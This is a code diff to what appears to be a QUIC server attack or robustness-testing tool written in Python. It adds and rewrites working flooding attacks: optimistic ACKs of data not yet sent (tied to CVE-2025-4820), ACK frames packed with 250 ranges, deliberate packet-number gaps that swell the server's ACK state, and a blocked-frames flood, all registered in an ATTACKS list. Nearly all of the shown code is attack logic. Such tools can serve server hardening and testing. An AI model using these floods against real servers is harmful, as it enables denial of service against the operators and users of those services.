@@ -13,10 +13,11 @@ from peer import (
 )
 
 
-def ack(largest, *ranges):
-    """Ranges are pairs: gap, length."""
-    first, *rest = ranges or (0,)
-    return b"\x02" + varint(largest) + varint(0) + varint(len(rest) // 2) + b"".join(map(varint, (first, *rest)))
+def ack(*numbers):
+    """ACK of single packets, from the newest to the oldest (RFC 9000 section 19.3)."""
+    gaps = [newer - older - 2 for newer, older in zip(numbers, numbers[1:])]
+    ranges = b"".join(varint(gap) + varint(0) for gap in gaps)
+    return b"\x02" + varint(numbers[0]) + varint(0) + varint(len(gaps)) + varint(0) + ranges
 
 
 def counted(step, start=0):
@@ -98,25 +99,36 @@ def retired_ids(url, until):
     return peer.flood(newest, until) | {"retired": retired}
 
 
+def number_gaps(url, until):
+    """Every other packet number is left out: the ACKs of the server have many ranges, and none is acknowledged."""
+    peer = Flooder(url, acknowledges=False)
+
+    def ping():
+        peer.quic._packet_number += 1
+        return b"\x01" + bytes(2)
+
+    return peer.flood(ping, until)
+
+
 def optimistic_ack(url, until):
     """Acknowledges a download faster than it comes."""
     peer = Flooder(url, acknowledges=False)
     peer.put(peer.open(request("/stream/50000000?checksum=off"), fin=True) + max_stream_data(0, 1 << 40))
     following = counted(10, 200)
-    return peer.flood(lambda: ack(following(), 100), until, burst=1, pause=0.001)
+    return peer.flood(lambda: ack(following()), until, burst=1, pause=0.001)
 
 
 def ack_ranges(url, until):
-    """As many ranges as an ACK can have, again and again."""
-    peer = Flooder(url, acknowledges=False)
+    """250 ranges in each ACK, all of packets that have come."""
+    peer = Flooder(url)
+    # Keeps the numbers of what has come also when the server knows that they were acknowledged.
+    received = peer.quic._spaces[tls.Epoch.ONE_RTT].ack_queue
+    received.subtract = lambda *_: None
     peer.put(peer.open(request("/stream/3000000?checksum=off"), fin=True) + max_stream_data(0, 1 << 40))
-    queue = peer.quic._spaces[tls.Epoch.ONE_RTT].ack_queue
-    while sum(len(found) for found in queue) < 12 and time.monotonic() < until:
-        peer.poll()
-    top = max(found.stop for found in queue) - 1
-    low = max(found.start for found in queue)
-    count = min((top - low) // 2, 250)
-    return peer.flood(lambda: ack(top, 0, *(0, 0) * count) + b"\x01", until)
+    peer.wait("500 packets", lambda: peer.poll() and sum(map(len, received)) >= 500)
+    numbers = [number for found in received for number in found]
+    frames = ack(*numbers[::-2][:250]) + b"\x01"
+    return peer.flood(lambda: frames, until)
 
 
 def new_ids(url, until):
@@ -208,7 +220,8 @@ ATTACKS = [
         "optimistic-ack", "ACK of packets before they were sent (CVE-2025-4820)", optimistic_ack,
         close="PROTOCOL_VIOLATION",
     ),
-    Attack("ack-ranges", "ACK frames with as many ranges as there can be", ack_ranges),
+    Attack("packet-number-gaps", "packets with gaps in their numbers, whose ACKs are not acknowledged", number_gaps),
+    Attack("ack-ranges", "ACK frames with 250 ranges", ack_ranges),
     Attack(
         "blocked-frames", "DATA_BLOCKED and STREAMS_BLOCKED",
         flood(lambda _: b"\x14" + varint(1 << 30) + b"\x16" + varint(1 << 20) + b"\x17" + varint(1 << 20)),
